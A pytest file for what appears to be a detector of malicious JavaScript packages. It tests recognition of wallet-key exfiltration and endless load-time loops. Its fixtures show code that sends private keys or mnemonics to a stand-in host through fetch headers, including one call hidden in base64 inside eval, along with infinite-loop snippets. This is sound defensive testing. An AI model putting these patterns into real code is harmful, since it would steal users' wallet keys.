"""What a caller hands over, and loops that nothing ends."""

import pytest

from lazaretto.core.facts import Kind
from lazaretto.languages._sensitive import is_key_name
from tests.languages.javascript_reading import flows, only, read, values

NEAR = "const note = (data) => fetch('https://rpc.invalid/q', { headers: { 'x-id': data } });\n"


@pytest.mark.parametrize("padding", [0, 70_000])
def test_a_key_that_is_handed_over_is_followed(padding: int) -> None:
    """Through a helper of the file, in small files and in large ones; the fact stands at the parameter."""
    text = NEAR + "let a = 1;\n" * (padding // 11) + "exports.sign = (text, privateKey) => { note(privateKey); };\n"
    facts = read(text)

    assert only(facts, Kind.KEY_GIVEN).value == "privateKey"
    assert (Kind.KEY_GIVEN, Kind.NET_CONNECT) in flows(facts)


def test_a_key_that_goes_nowhere_is_no_fact() -> None:
    """A wallet library takes keys all day; one is told only where it goes to the network."""
    assert values(read(NEAR + "exports.sign = (text, privateKey) => make(text, privateKey);\n"), Kind.KEY_GIVEN) == []


@pytest.mark.parametrize("code", [
    "class Pair { constructor(t) { note(t); this.parts = { publicKey: t.slice(32), secretKey: t }; } }",
    "class Pair { static fromSecretKey(t, e) { note(t); return new Pair(t, e); } }",
    "const fromMnemonic = async (t) => { note(t); };",
    "exports.a = function (t) { note(t); return (0, pairs_1.deriveKeypair)(t, {}); };",
    "exports.a = (x, t) => { note(t); return nacl__default.default.sign.detached(x.bytes(), t); };",
    "exports.a = (t) => { note(t); return new ethers.Wallet(t); };",
    "exports.a = (t) => { note(t); return bip39.mnemonicToSeedSync(t); };",
    "exports.a = (t) => { note(t); return Keypair.fromSecretKey(bs58.decode(t)); };",
])  # fmt: skip
@pytest.mark.parametrize("padding", [0, 70_000])
def test_a_key_is_known_by_what_is_done_with_it(code: str, padding: int) -> None:
    """Names of parameters do not survive a minifier; those of what makes, keeps and signs do."""
    other = "exports.secretKey = 1;\n" + "let a = 1;\n" * (padding // 11) if padding else ""
    facts = read(NEAR + other + code + "\n")

    assert only(facts, Kind.KEY_GIVEN).value == "t"
    assert (Kind.KEY_GIVEN, Kind.NET_CONNECT) in flows(facts)


@pytest.mark.parametrize("code", [
    "exports.a = (seed) => { note(seed); return random(seed); };",
    "exports.a = (t, k) => { note(t); return nacl.sign.detached(t, k); };",
    "exports.a = (t) => { note(t); return nacl.sign.detached.verify(t, sig, pub); };",
    "exports.a = (t) => { note(t); return { publicKey: t, name: 'secretKey' }; };",
    "exports.a = (t) => { note(t.length); secretKey = make(t); };",
    "exports.a = (t) => { note(t); }; exports.b = (u) => new Wallet(u);",
])  # fmt: skip
def test_what_is_no_key(code: str) -> None:
    """A random seed, what is signed, what is public, and what another function does with a thing of its own."""
    assert values(read(NEAR + code + "\n"), Kind.KEY_GIVEN) == []


@pytest.mark.parametrize(("name", "key"), [
    ("privateKey", True), ("secret_key", True), ("mnemonic", True), ("seedPhrase", True), ("_seed", False),
    ("seed", False), ("key", False), ("phrase", False), ("password", False), ("seeded", False), ("keyPairs", False),
])  # fmt: skip
def test_names_of_keys(name: str, key: bool) -> None:
    """Words that ordinary programs use every day are no keys."""
    assert is_key_name(name) is key


@pytest.mark.parametrize(("loop", "endless"), [
    ("for (let i = 1; i < Infinity; i++) { console.log(i); }", True),
    ("for (let t = 666; t < 1 / 0; t++) console.log(fs);", True),
    ("for (let t = 0; t < 1 / 2; t++) console.log(fs);", False),
    ("for (;;) console.log(fs);", True),
    ("while (!0) { console.log(fs); }", True),
    ("while (true) { if (fs.existsSync('a')) break; }", False),
    ("while (true) { process.exit(); }", False),
    ("for (let i = 1; i < 1e9; i++) { console.log(i); }", False),
    ("exports.work = () => { for (;;) console.log(fs); };", False),
])  # fmt: skip
def test_loops_without_end(loop: str, endless: bool) -> None:
    """A loop counts if it runs at load and neither its condition nor its body ends it."""
    found = values(read("const fs = require('fs');\n" + loop + "\n"), Kind.LOOP_ENDLESS)
    assert found == ([None] if endless else [])


def test_code_of_a_direct_eval_sees_the_names_around_it() -> None:
    """What is evaluated calls the helper of the file with the parameter of the function around it."""
    facts = read(NEAR + "exports.sign = (text, privateKey) => { eval(atob('bm90ZShwcml2YXRlS2V5KQ==')); };\n")

    assert (Kind.KEY_GIVEN, Kind.NET_CONNECT) in flows(facts)
